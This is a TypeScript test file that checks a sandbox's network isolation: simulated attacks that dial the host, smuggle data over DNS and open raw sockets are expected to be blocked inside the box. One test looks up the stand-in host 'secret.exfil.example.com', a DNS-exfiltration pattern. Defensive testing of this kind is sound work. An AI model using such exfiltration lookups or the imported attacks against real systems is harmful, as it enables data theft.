import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  dialsHost,
  opensRawSockets,
  smugglesByDns,
} from '../../packages/cli/src/drill/attacks/network.ts'
import { type HostListeners, listenOnHost } from '../../packages/cli/src/drill/host-listeners.ts'
import { expectHeld, expectThrough } from './inside.ts'
import { said, useScene } from './scene.ts'

const scene = useScene()

describe('this machine', () => {
  let host: HostListeners
  beforeAll(async () => {
    host = await listenOnHost()
  })
  afterAll(() => host?.[Symbol.asyncDispose]())

  test('is out of reach by every address it has', async () => {
    const attack = dialsHost(host.targets)
    expect(await expectThrough(attack, scene())).toHaveLength(host.targets.length)
    expect(host.heard()).toHaveLength(host.targets.length)

    await expectHeld(attack, scene())
    expect(host.heard()).toEqual([])
  })

  test('is sent no DNS query and no datagram', async () => {
    const attack = smugglesByDns(host.targets)
    await expectThrough(attack, scene())
    const heard: unknown[] = []
    await expect.poll(() => heard.push(...host.heard())).toBe(host.targets.length)

    await expectHeld(attack, scene())
    await sleep(100)
    expect(host.heard()).toEqual([])
  })

  test('gives no raw and no packet socket', async () => {
    expect(await expectThrough(opensRawSockets, scene())).toEqual([
      'a raw socket',
      'a packet socket',
    ])

    await expectHeld(opensRawSockets, scene())
  })
})

describe('a sandbox', () => {
  test('has no interface but loopback, no route, and no abstract socket', async () => {
    const look = 'ls /sys/class/net; tail -n +2 /proc/net/route; tail -n +2 /proc/net/unix | grep @'
    expect(await scene().plain.said(look)).toMatch(/eth0/)

    expect(await said(scene().box, look)).toBe('lo\n')
  })

  test('resolves no name, and says so quickly', async () => {
    const started = performance.now()
    const lookUp = 'getent hosts secret.exfil.example.com || echo NOTHING'

    expect(await said(scene().box, lookUp)).toBe('NOTHING\n')
    expect(performance.now() - started).toBeLessThan(8000)
    expect(await said(scene().box, 'grep -v "^#" /etc/resolv.conf')).not.toMatch(
      /nameserver (?!127\.0\.0\.1)/,
    )
  })
})
